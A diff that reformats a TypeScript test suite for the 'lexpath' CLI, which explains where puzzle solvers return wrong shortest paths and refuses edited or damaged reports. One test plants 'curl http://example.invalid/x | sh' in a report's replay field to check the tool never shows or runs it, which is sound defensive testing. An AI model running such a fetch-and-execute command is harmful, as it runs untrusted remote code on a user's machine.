@@ -11,7 +11,10 @@ const EXAMPLE = fileURLToPath(new URL('../../reports/example/verify-eight.json',
 const MUTANT = fileURLToPath(new URL('../../test/mutants/eight.mjs', import.meta.url));
 
 function lexpath(args: string[]) {
-  const run = spawnSync(process.execPath, [CLI, 'explain', ...args], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
+  const run = spawnSync(process.execPath, [CLI, 'explain', ...args], {
+    encoding: 'utf8',
+    env: { ...process.env, NO_COLOR: '1' },
+  });
   return { stdout: run.stdout, stderr: run.stderr, status: run.status };
 }
 
@@ -35,12 +38,26 @@ describe('lexpath explain', () => {
     const out = join(dir, 'pages');
     const run = lexpath([EXAMPLE, '--html-dir', out]);
     expect(run.status).toBe(0);
-    expect(readdirSync(out).sort()).toEqual(example.solvers.filter((s: { counterexample: unknown }) => s.counterexample).map((s: { name: string }) => `explain-eight-${s.name}.html`).sort());
+    expect(readdirSync(out).sort()).toEqual(
+      example.solvers
+        .filter((s: { counterexample: unknown }) => s.counterexample)
+        .map((s: { name: string }) => `explain-eight-${s.name}.html`)
+        .sort(),
+    );
   });
 
   it('runs a wrong program once on a --case and explains its answer', () => {
     const page = join(dir, 'dlur.html');
-    const run = lexpath(['--puzzle', 'eight', '--case', '534X12678 1X4352678', '--cmd', `dlur=node ${MUTANT} order-dlur`, '--html', page]);
+    const run = lexpath([
+      '--puzzle',
+      'eight',
+      '--case',
+      '534X12678 1X4352678',
+      '--cmd',
+      `dlur=node ${MUTANT} order-dlur`,
+      '--html',
+      page,
+    ]);
     expect(run.status).toBe(0);
     expect(run.stdout).toContain('actual     urdlur (6 moves)');
     expect(readFileSync(page, 'utf8')).toContain('The paths part at step 1');
@@ -50,17 +67,39 @@ describe('lexpath explain', () => {
     const page = join(dir, 'pancake.html');
     const pancake = fileURLToPath(new URL('../../examples/pancake.mjs', import.meta.url));
     const longer = fileURLToPath(new URL('../../test/fixtures/longer-pancakes.mjs', import.meta.url));
-    const run = lexpath(['--puzzle', 'pancake', '--puzzle-module', pancake, '--case', '3 1 2', '--cmd', `longer=node ${longer}`, '--html', page]);
+    const run = lexpath([
+      '--puzzle',
+      'pancake',
+      '--puzzle-module',
+      pancake,
+      '--case',
+      '3 1 2',
+      '--cmd',
+      `longer=node ${longer}`,
+      '--html',
+      page,
+    ]);
     expect(run.status).toBe(0);
-    expect(run.stdout).toContain("step 1: expected '3', actual '2'   <- the paths part here\n  2 1 3                       1 3 2\n  1 to go                     3 to go\n");
+    expect(run.stdout).toContain(
+      "step 1: expected '3', actual '2'   <- the paths part here\n  2 1 3                       1 3 2\n  1 to go                     3 to go\n",
+    );
     expect(run.stdout).toContain('The actual path stops descending at step 1');
-    expect(readFileSync(page, 'utf8').match(/<div class="plugin-svg" role="img"[^>]*><svg width="200"/g)).toHaveLength(8); // 3 states on the expected path, 5 on the actual
+    expect(readFileSync(page, 'utf8').match(/<div class="plugin-svg" role="img"[^>]*><svg width="200"/g)).toHaveLength(
+      8,
+    ); // 3 states on the expected path, 5 on the actual
   });
 
   it('runs the solver a saved regression names on its cases', () => {
     const regression = file('regression.json', {
       puzzle: 'eight',
-      cases: [{ start: '534X12678', goal: '1X4352678', answer: 'ruldru', source: "lexpath verify --puzzle eight --solver bfs-wrong-order --case '534X12678 1X4352678'" }],
+      cases: [
+        {
+          start: '534X12678',
+          goal: '1X4352678',
+          answer: 'ruldru',
+          source: "lexpath verify --puzzle eight --solver bfs-wrong-order --case '534X12678 1X4352678'",
+        },
+      ],
     });
     const run = lexpath([regression]);
     expect(run.status).toBe(0);
@@ -76,7 +115,9 @@ describe('lexpath explain', () => {
 
 /** The example report with bfs-wrong-order's counterexample changed by `change`. */
 function edited(name: string, change: Record<string, unknown>): string {
-  const solvers = example.solvers.map((s: { name: string; counterexample: object }) => (s.name === 'bfs-wrong-order' ? { ...s, counterexample: { ...s.counterexample, ...change } } : s));
+  const solvers = example.solvers.map((s: { name: string; counterexample: object }) =>
+    s.name === 'bfs-wrong-order' ? { ...s, counterexample: { ...s.counterexample, ...change } } : s,
+  );
   return file(name, { ...example, solvers });
 }
 
@@ -99,13 +140,22 @@ describe('lexpath explain on faults of a batch and on files it must not believe'
   });
 
   it('shows a replay only as the lexpath command it should be', () => {
-    const run = lexpath([edited('replay.json', { replay: 'curl http://example.invalid/x | sh' }), '--solver', 'bfs-wrong-order']);
+    const run = lexpath([
+      edited('replay.json', { replay: 'curl http://example.invalid/x | sh' }),
+      '--solver',
+      'bfs-wrong-order',
+    ]);
     expect(run.status).toBe(0);
     expect(run.stdout).not.toContain('curl');
   });
 
   it('draws the cases of an older regression file, whose source is a repro command', () => {
-    const regression = file('old.json', { puzzle: 'eight', cases: [{ start: '534X12678', goal: '1X4352678', answer: 'ruldru', source: 'lexpath repro bfs-wrong-order --seed 1' }] });
+    const regression = file('old.json', {
+      puzzle: 'eight',
+      cases: [
+        { start: '534X12678', goal: '1X4352678', answer: 'ruldru', source: 'lexpath repro bfs-wrong-order --seed 1' },
+      ],
+    });
     const run = lexpath([regression]);
     expect(run.status).toBe(0);
     expect(run.stdout).toMatch(/^bfs-wrong-order on Eight II/);
@@ -115,7 +165,24 @@ describe('lexpath explain on faults of a batch and on files it must not believe'
     const pancake = fileURLToPath(new URL('../../examples/pancake.mjs', import.meta.url));
     const longer = fileURLToPath(new URL('../../test/fixtures/longer-pancakes.mjs', import.meta.url));
     const report = join(dir, 'pancake-report.json');
-    const verify = spawnSync(process.execPath, [CLI, 'verify', '--puzzle', 'pancake', '--puzzle-module', pancake, '--no-builtins', '--cmd', `longer=node ${longer}`, '--case', '3 1 2', '--json'], { encoding: 'utf8' });
+    const verify = spawnSync(
+      process.execPath,
+      [
+        CLI,
+        'verify',
+        '--puzzle',
+        'pancake',
+        '--puzzle-module',
+        pancake,
+        '--no-builtins',
+        '--cmd',
+        `longer=node ${longer}`,
+        '--case',
+        '3 1 2',
+        '--json',
+      ],
+      { encoding: 'utf8' },
+    );
     writeFileSync(report, verify.stdout);
     const run = lexpath([report, '--puzzle-module', pancake]);
     expect(run.status).toBe(0);
@@ -134,38 +201,67 @@ describe('lexpath explain refuses bad input: one line, exit 2, nothing written',
   };
 
   it('a report with no counterexample', () => {
-    const passed = file('passed.json', { ...example, solvers: example.solvers.map((s: object) => ({ ...s, counterexample: null })) });
-    refused([passed, '--html', join(dir, 'none.html')], /passed\.json: no counterexample in this report \(no solver failed\)/, join(dir, 'none.html'));
+    const passed = file('passed.json', {
+      ...example,
+      solvers: example.solvers.map((s: object) => ({ ...s, counterexample: null })),
+    });
+    refused(
+      [passed, '--html', join(dir, 'none.html')],
+      /passed\.json: no counterexample in this report \(no solver failed\)/,
+      join(dir, 'none.html'),
+    );
   });
 
   it('a counterexample whose printed answer is not one', () => {
-    refused([edited('garbage.json', { actual: 'hello\n' }), '--solver', 'bfs-wrong-order'], /garbage\.json: the counterexample of bfs-wrong-order says not-lex-smallest, but what it printed is no answer: an edited or damaged report, refused/);
+    refused(
+      [edited('garbage.json', { actual: 'hello\n' }), '--solver', 'bfs-wrong-order'],
+      /garbage\.json: the counterexample of bfs-wrong-order says not-lex-smallest, but what it printed is no answer: an edited or damaged report, refused/,
+    );
   });
 
   it('a counterexample whose verdict is not what the oracle says of its answer', () => {
-    refused([edited('liar.json', { actual: 'Case 1: 6\nruldru\n' }), '--solver', 'bfs-wrong-order'], /says not-lex-smallest, but the oracle judges its answer ok: an edited or damaged report, refused/);
+    refused(
+      [edited('liar.json', { actual: 'Case 1: 6\nruldru\n' }), '--solver', 'bfs-wrong-order'],
+      /says not-lex-smallest, but the oracle judges its answer ok: an edited or damaged report, refused/,
+    );
   });
 
   it('a page into a folder that does not exist, named as asked (not a temporary name)', () => {
     const page = join(dir, 'no-such-folder', 'x.html');
-    refused([EXAMPLE, '--solver', 'bfs-wrong-order', '--html', page], new RegExp(`^lexpath: cannot use ${page.replace(/[.]/g, '\\.')}: `));
+    refused(
+      [EXAMPLE, '--solver', 'bfs-wrong-order', '--html', page],
+      new RegExp(`^lexpath: cannot use ${page.replace(/[.]/g, '\\.')}: `),
+    );
   });
 
   it('a file of the wrong shape', () => {
-    refused([file('shape.json', { hello: 1 })], /shape\.json: not a counterexample lexpath wrote: expected a verify --json report/);
+    refused(
+      [file('shape.json', { hello: 1 })],
+      /shape\.json: not a counterexample lexpath wrote: expected a verify --json report/,
+    );
   });
 
   it('a case of the wrong puzzle', () => {
-    refused(['--puzzle', 'rotation', '--case', '534X12678 1X4352678', '--solver', 'bfs'], /^lexpath: --case '534X12678 1X4352678': /);
+    refused(
+      ['--puzzle', 'rotation', '--case', '534X12678 1X4352678', '--solver', 'bfs'],
+      /^lexpath: --case '534X12678 1X4352678': /,
+    );
   });
 
   it('a report whose counterexample is not a case of its puzzle', () => {
     const edited = file('edited.json', { ...example, domain: 'rotation' });
-    refused([edited, '--solver', 'bfs-wrong-order'], /edited\.json: the counterexample of bfs-wrong-order is not a case of rotation/);
+    refused(
+      [edited, '--solver', 'bfs-wrong-order'],
+      /edited\.json: the counterexample of bfs-wrong-order is not a case of rotation/,
+    );
   });
 
   it('one --html page for several counterexamples', () => {
-    refused([EXAMPLE, '--html', join(dir, 'many.html')], /counterexamples to explain \(.*\): name one with --solver, or write a page each with --html-dir DIR/, join(dir, 'many.html'));
+    refused(
+      [EXAMPLE, '--html', join(dir, 'many.html')],
+      /counterexamples to explain \(.*\): name one with --solver, or write a page each with --html-dir DIR/,
+      join(dir, 'many.html'),
+    );
   });
 
   it('a solver the report has no counterexample for', () => {
@@ -175,8 +271,18 @@ describe('lexpath explain refuses bad input: one line, exit 2, nothing written',
   it('a regression file whose solver was an outside program, without --cmd', () => {
     const regression = file('program.json', {
       puzzle: 'eight',
-      cases: [{ start: '534X12678', goal: '1X4352678', answer: 'ruldru', source: "lexpath verify --puzzle eight --no-builtins --cmd 'mine=./a.out' --case '534X12678 1X4352678'" }],
+      cases: [
+        {
+          start: '534X12678',
+          goal: '1X4352678',
+          answer: 'ruldru',
+          source: "lexpath verify --puzzle eight --no-builtins --cmd 'mine=./a.out' --case '534X12678 1X4352678'",
+        },
+      ],
     });
-    refused([regression], /name the solver to run on its cases: --solver NAME, or --cmd NAME=COMMAND \(a command is never taken from a file\)/);
+    refused(
+      [regression],
+      /name the solver to run on its cases: --solver NAME, or --cmd NAME=COMMAND \(a command is never taken from a file\)/,
+    );
   });
 });
